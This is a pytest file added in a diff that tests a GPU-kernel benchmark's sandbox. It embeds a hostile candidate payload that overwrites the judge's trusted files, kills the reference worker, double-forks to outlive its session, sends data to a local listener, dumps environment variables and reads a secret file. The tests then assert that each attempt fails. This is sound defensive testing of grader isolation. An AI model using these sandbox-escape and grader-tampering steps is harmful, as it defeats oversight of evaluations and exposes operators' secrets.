@@ -1,0 +1,159 @@
+"""The OS sandbox: what a candidate cannot reach, whatever code it runs.
+
+One evaluation of an honest Triton ReLU that, at import, tries everything a
+candidate with code execution would try outside its process: write the files
+the judge trusts later (the problem file, the store, the baseline cache, the
+judge's working directory), outlive its process group (double fork and
+``setsid``), kill the reference worker, reach the network, read the judge's
+secrets. All are tried under ``--policy off`` (no name-matching rule stops
+them first): the sandbox alone must hold, and the honest kernel still passes.
+"""
+
+from __future__ import annotations
+
+import secrets
+import socket
+import threading
+import time
+from pathlib import Path
+
+import psutil
+import pytest
+
+import kbench
+from kbench.judge import sandbox
+from kbench.judge.timing import TimingSettings
+
+HERE = Path(__file__).parent
+FAST = TimingSettings(warmup_calls=2, warmup_seconds=0.0, min_calls=3, max_calls=5, budget_seconds=0.5)
+SECRET = "sk-kbench-test-" + secrets.token_hex(8)
+
+ATTACKS = '''
+import os, signal, socket, subprocess, sys, time
+
+def _attack():
+    for target in {targets!r}:
+        try:
+            with open(target, "a") as f:
+                f.write("\\nraise SystemExit('planted by the candidate')\\n")
+            print("WROTE", target)
+        except OSError as exc:
+            print("write refused", target, exc)
+    try:
+        os.makedirs({planted_package!r}, exist_ok=True)
+        open(os.path.join({planted_package!r}, "__init__.py"), "w").write("raise SystemExit('planted')")
+    except OSError:
+        pass
+    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+        try:
+            if pid != os.getpid() and "kbench.judge.worker" in open(f"/proc/{{pid}}/cmdline").read():
+                os.kill(pid, signal.SIGKILL)
+                print("KILLED", pid)
+        except (OSError, ValueError):
+            pass
+    if os.fork() == 0:  # a grandchild in a session of its own, to outlive the candidate
+        os.setsid()
+        if os.fork() == 0:
+            os.execv("/bin/sleep", ["/bin/sleep", {survivor!r}])
+        os._exit(0)
+    try:
+        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrated")
+        print("CONNECTED")
+    except OSError as exc:
+        print("network refused", exc)
+    print("environment", dict(os.environ))
+    for secret_file in {secret_files!r}:
+        try:
+            print("read", open(secret_file).read())
+        except OSError as exc:
+            print("read refused", exc)
+
+_attack()
+'''
+
+
+@pytest.fixture
+def listener():
+    """A TCP server on the judge's loopback that records whatever connects."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.5)
+    seen: list[bytes] = []
+    done = threading.Event()
+
+    def accept() -> None:
+        while not done.is_set():
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                continue
+            seen.append(connection.recv(100))
+            connection.close()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], seen
+    done.set()
+    thread.join()
+    server.close()
+
+
+def test_a_candidate_reaches_nothing_outside_its_sandbox(tmp_path, monkeypatch, listener):
+    port, connections = listener
+    # Everything it targets is world-writable and world-readable: only the sandbox stands in the way.
+    problem = tmp_path / "problem" / "relu.py"
+    problem.parent.mkdir()
+    problem.write_text((Path(kbench.__file__).parent / "suite" / "level1" / "relu.py").read_text())
+    store, cache = tmp_path / "kbench.db", tmp_path / "cache" / "baselines.sqlite"
+    cache.parent.mkdir()
+    for target in (store, cache):
+        target.write_text("trusted")
+    judge_cwd = tmp_path / "judge_cwd"
+    (judge_cwd / "kbench").mkdir(parents=True)  # a kbench package planted here would shadow the real one
+    (judge_cwd / "kbench" / "__init__.py").write_text("raise SystemExit('a worker imported from the judge cwd')")
+    secret_file = tmp_path / "secret.txt"
+    secret_file.write_text(SECRET)
+    for path in [tmp_path, problem.parent, cache.parent, judge_cwd, problem, store, cache, secret_file]:
+        path.chmod(0o777 if path.is_dir() else 0o666)
+    survivor = f"1000.{secrets.randbelow(10**9):09d}"
+    attack = ATTACKS.format(targets=[str(problem), str(store), str(cache)], planted_package=str(judge_cwd / "evil"),
+                            survivor=survivor, port=port, secret_files=[str(secret_file)])
+    solution = tmp_path / "escape.py"
+    solution.write_text((HERE / "exploits" / "twin_relu.py").read_text() + attack)
+    problem_text = problem.read_text()
+    monkeypatch.chdir(judge_cwd)
+    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
+
+    verdict = kbench.evaluate(problem, solution, "cpu", size="small", trials=2, timing=FAST, policy="off")
+
+    assert verdict.status == "correct", verdict.reason  # the reference was not killed: no problem error
+    assert verdict.sandbox["kind"] == "bubblewrap"
+    assert problem.read_text() == problem_text
+    assert store.read_text() == "trusted" and cache.read_text() == "trusted"
+    assert not (judge_cwd / "evil").exists()
+    assert connections == []
+    for refused in ("write refused", "network refused", "read refused"):
+        assert refused in verdict.output_tail
+    assert "WROTE" not in verdict.output_tail and "KILLED" not in verdict.output_tail
+    assert SECRET not in verdict.output_tail
+    time.sleep(0.5)
+    survivors = [p.pid for p in psutil.process_iter(["cmdline"]) if survivor in (p.info["cmdline"] or [])]
+    assert survivors == []
+
+
+def test_without_a_sandbox_the_judge_refuses_unless_told(monkeypatch):
+    monkeypatch.setattr(sandbox, "bwrap_binary", lambda: None)
+    sandbox.find_sandbox.cache_clear()
+    try:
+        unconfined = HERE / "exploits" / "pure_torch_relu.py"  # rejected by a static rule: nothing runs
+        with pytest.raises(sandbox.SandboxUnavailable, match="--no-sandbox"):
+            kbench.evaluate("level1/relu", unconfined, "cpu", size="small")
+        verdict = kbench.evaluate("level1/relu", unconfined, "cpu", size="small", sandbox=False)
+        assert verdict.sandbox == {"kind": "none", "reason": "--no-sandbox"}
+    finally:
+        sandbox.find_sandbox.cache_clear()
+
+
+def test_the_candidate_environment_keeps_no_secrets():
+    env = sandbox.candidate_env({"PATH": "/usr/bin", "OPENAI_API_KEY": SECRET, "HF_TOKEN": SECRET,
+                                 "CUDA_VISIBLE_DEVICES": "0", "TORCH_EXTENSIONS_DIR": "/x"})
+    assert env == {"PATH": "/usr/bin", "CUDA_VISIBLE_DEVICES": "0", "TORCH_EXTENSIONS_DIR": "/x"}
